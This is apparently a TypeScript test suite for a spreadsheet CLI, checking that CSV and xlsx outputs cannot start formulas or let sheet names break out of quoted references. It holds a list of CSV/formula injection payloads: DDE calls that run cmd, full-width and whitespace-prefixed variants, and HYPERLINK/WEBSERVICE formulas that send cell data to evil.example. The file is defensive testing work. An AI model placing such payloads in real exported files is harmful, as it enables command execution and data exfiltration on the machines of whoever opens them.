import type { Workbook } from "../../src/core";
import { readXlsx } from "../../src/hosts/xlsx";
import { runCli } from "../cli/run-cli";
import { hostileBytes } from "./hostile-book";

/** What a spreadsheet would take for a formula when it stands at the beginning of a CSV cell, or was typed. */
const PAYLOADS = [
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+9)*cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"開く")',
  '=WEBSERVICE("http://evil.example/")',
  "\t=1+cmd|x",
  "\r=1+cmd|x",
  "\n=1+cmd|x",
  "  =1+cmd|x",
  "＝cmd|x",
  "＋cmd|x",
  "－cmd|x",
  "＠cmd|x",
  '",=cmd|x,"',
  '"\r\n=cmd|x',
];

const BOOK = hostileBytes(PAYLOADS);
const FILES = { "in.xlsx": BOOK };

/** Excel's own reading of a CSV, as RFC 4180 has it. */
function cellsOf(csv: string): readonly string[] {
  const cells: string[] = [];
  for (const [, quoted, plain] of csv.replace(/^\ufeff/, "").matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n|$)/g))
    cells.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
  return cells;
}

const isNumber = (text: string) => /^[+-]?\d+(?:\.\d+)?(?:e[+-]\d+)?$/.test(text);

function expectHarmless(csv: string): void {
  const cells = cellsOf(csv);
  expect(cells.length).toBeGreaterThan(50);
  expect(cells.filter((text) => /cmd|HYPERLINK|WEBSERVICE/.test(text)).length).toBeGreaterThan(5);
  const wrong = cells.filter((text) => /^[\s\u0000-\u001f]*[=+\-@＝＋－＠]/.test(text) && !isNumber(text));
  expect(wrong).toEqual([]);
}

describe("CSV injection: no cell of a CSV begins a formula", () => {
  it.each([[["check", "--format", "csv"]], [["check", "--format", "csv", "--lang", "en"]]])("%j", async (words) => {
    expectHarmless((await runCli([...words, "in.xlsx"], FILES)).out);
  });

  it("check --format csv, where the file and the sheet are called like formulas", async () => {
    const name = "=cmd|x.xlsx";
    const { out } = await runCli(["check", "--format", "csv", name], { [name]: hostileBytes(PAYLOADS, "=cmd|x") });
    expectHarmless(out);
  });

  it.each([["utf-8"], ["shift_jis"]])("publish --encoding %s", async (encoding) => {
    const words = ["publish", "in.xlsx", "-o", "公表", "--encoding", encoding, "--date", "2026-03-31"];
    const { written, errors } = await runCli(words, FILES);
    expect(errors).toEqual([]);
    const bytes = Object.entries(written).find(([path]) => path.endsWith(".csv"))?.[1];
    expectHarmless(new TextDecoder(encoding).decode(bytes));
  });
});

describe("formula injection: a text stays a text", () => {
  it.each([
    ["fill --replace"],
    ["fix"],
    ["flag"],
    ["summarize"],
    ["summarize --form paired"],
    ["summarize --form single"],
    ["plan sheet hitoyoshi-3"],
    ["publish --date 2026-03-31"],
    ["request"],
  ])("%s writes no formula out of a cell's text", async (words) => {
    const { written, errors } = await runCli([...words.split(" "), "in.xlsx", "-o", "out.xlsx"], FILES);
    expect(errors).toEqual([]);
    const books = Object.entries(written).filter(([path]) => path.endsWith(".xlsx"));
    expect(books.length).toBeGreaterThan(0);
    for (const [, bytes] of books) expectOnlyOurFormulas(readXlsx(bytes));
  });

  it("a sheet's name cannot break out of a formula that names it", async () => {
    const sheet = "a'!A1+cmd|'x";
    const { written } = await runCli(["summarize", "in.xlsx", "-o", "out.xlsx"], {
      "in.xlsx": hostileBytes(["出生数", "転入者数"], sheet),
    });
    const formulas = formulasOf(readXlsx(written["out.xlsx"] ?? new Uint8Array(0)));
    const naming = formulas.filter((formula) => formula.includes("cmd|"));
    expect(naming.length).toBeGreaterThan(0);
    for (const formula of naming) expect(outsideQuotes(formula)).not.toContain("cmd");
  });
});

function expectOnlyOurFormulas(workbook: Workbook): void {
  for (const formula of formulasOf(workbook)) expect(outsideQuotes(formula)).not.toMatch(/cmd|HYPERLINK|WEBSERVICE|\|/);
  for (const sheet of workbook.sheets) {
    for (const { target } of sheet.hyperlinks) expect(target).toMatch(/^#/);
  }
}

function formulasOf(workbook: Workbook): readonly string[] {
  return [
    ...workbook.sheets.flatMap(({ rows }) =>
      rows.flatMap(({ formulas = [] }) => formulas.filter((one) => one !== undefined)),
    ),
    ...workbook.names.map(({ formula }) => formula),
  ];
}

/** A formula without its texts and quoted names. */
function outsideQuotes(formula: string): string {
  return formula.replace(/"(?:[^"]|"")*"|'(?:[^']|'')*'/g, "");
}
